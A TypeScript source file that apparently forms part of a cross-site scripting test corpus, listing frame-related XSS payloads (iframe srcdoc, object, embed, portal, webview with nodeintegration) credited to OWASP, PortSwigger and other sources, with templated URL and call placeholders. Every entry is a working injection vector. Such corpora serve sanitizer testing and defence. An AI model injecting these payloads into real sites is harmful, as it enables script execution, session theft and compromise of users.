import { category } from './payload';
import { CLOSURE, HTML5SEC, OWASP, own, PORTSWIGGER, WHATWG, WICG } from './sources';

/** Elements that hold another document. */
export const FRAMES = category('frames', [
  [
    OWASP,
    {
      'iframe-source': '<iframe src="{{URL}}"></iframe>',
      'iframe-no-end': '<iframe src={{URL}} <',
      'iframe-nested-open': '<iframe src={{URL}}//',
      'frameset-source': '<frameset><frame src="{{URL}}"></frameset>',
      'object-source': '<object type="text/html" data="{{URL}}"></object>',
      'object-classid': `<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value="javascript:{{CALL}}"></object>`,
      'embed-source': '<embed src="{{URL}}" allowscriptaccess=always>',
      'applet-archive': '<applet archive="{{URL}}" code=x></applet>',
      ilayer: '<ilayer src="{{URL}}"></ilayer><layer src="{{URL}}"></layer>',
    },
  ],
  [
    PORTSWIGGER,
    {
      srcdoc: '<iframe srcdoc="<script>{{CALL}}</script>"></iframe>',
      'srcdoc-entities': '<iframe srcdoc="&lt;script&gt;{{CALL}}&lt;/script&gt;"></iframe>',
      'srcdoc-hex': '<iframe srcdoc="{{HEX:<script>{{CALL}}</script>}}"></iframe>',
      'srcdoc-image': '<iframe srcdoc="<img src=x: onerror={{CALL}}>"></iframe>',
      'srcdoc-single-quote': `<iframe srcdoc='<svg/onload="{{CALL}}">'></iframe>`,
      'srcdoc-and-src': '<iframe src="javascript:{{CALL}}" srcdoc="<body onload={{CALL}}>"></iframe>',
      'srcdoc-parent': '<iframe srcdoc="<script>parent.fetch(`{{URL}}`);{{CALL}}</script>"></iframe>',
      'sandbox-lifted':
        '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>{{CALL}}</script>"></iframe>',
      'fenced-frame': '<fencedframe src="{{URL}}"></fencedframe>',
      portal: '<portal src="{{URL}}" onload={{CALL}}></portal>',
    },
  ],
  [
    HTML5SEC,
    {
      'object-param':
        '<object data="{{URL}}"><param name=src value="javascript:{{CALL}}"><img src=x: onerror={{CALL}}></object>',
      'embed-code': '<embed code="{{URL}}" type="application/x-java-applet">',
      'embed-flash': '<embed src="{{URL}}" type="application/x-shockwave-flash" flashvars="x={{CALL}}">',
      'object-svg': '<object type="image/svg+xml" data="{{URL}}"></object>',
      'xml-island': '<xml id=x src="{{URL}}"></xml><span datasrc=#x datafld=y dataformatas=html></span>',
      'frame-alone': '<frame src="{{URL}}" onload={{CALL}}>',
      noframes: '<noframes><img src=x: onerror={{CALL}}></noframes>',
      noembed: '<noembed><script>{{CALL}}</script></noembed>',
    },
  ],
  [
    CLOSURE,
    {
      'object-nested': '<object><object data="{{URL}}"><embed src="{{URL}}"></object></object>',
      'iframe-text': '<iframe><script>{{CALL}}</script></iframe>',
      'iframe-in-noscript': '<noscript><iframe src="{{URL}}"></iframe></noscript>',
      'image-alias': '<image src=x: onerror={{CALL}}>',
    },
  ],
  [
    own(`${WHATWG}; ${WICG}`),
    {
      'iframe-lazy': '<iframe loading=lazy src="{{URL}}"></iframe>',
      'iframe-name-target':
        '<iframe name=x src="{{URL}}"></iframe><a target=x href="javascript:{{CALL}}">a</a>',
      'iframe-data-src': '<iframe data-src="javascript:{{CALL}}" src="about:blank"></iframe>',
      'iframe-allow':
        '<iframe allow="camera *; geolocation *" allowfullscreen csp="default-src *" src="{{URL}}"></iframe>',
      'iframe-credentialless': '<iframe credentialless src="{{URL}}"></iframe>',
      'youtube-lookalike':
        '<lite-youtube videoid="x" playlabel="<img src=x: onerror={{CALL}}>"></lite-youtube>',
      'video-id-injection': '<lite-vimeo videoid="1/../../javascript:{{CALL}}">a</lite-vimeo>',
      'twitter-blockquote':
        '<blockquote class="twitter-tweet"><a href="javascript:{{CALL}}">a</a></blockquote><script async src="{{URL}}"></script>',
      'iframe-title':
        '<iframe title="<img src=x: onerror={{CALL}}>" src="https://player.example.org/embed/1"></iframe>',
      'object-form-associated': '<form><object name=x data="{{URL}}" form=y usemap=#z></object></form>',
      webview: '<webview src="{{URL}}" nodeintegration preload="{{URL}}"></webview>',
      'controlled-frame': '<controlledframe src="{{URL}}"></controlledframe>',
    },
  ],
]);
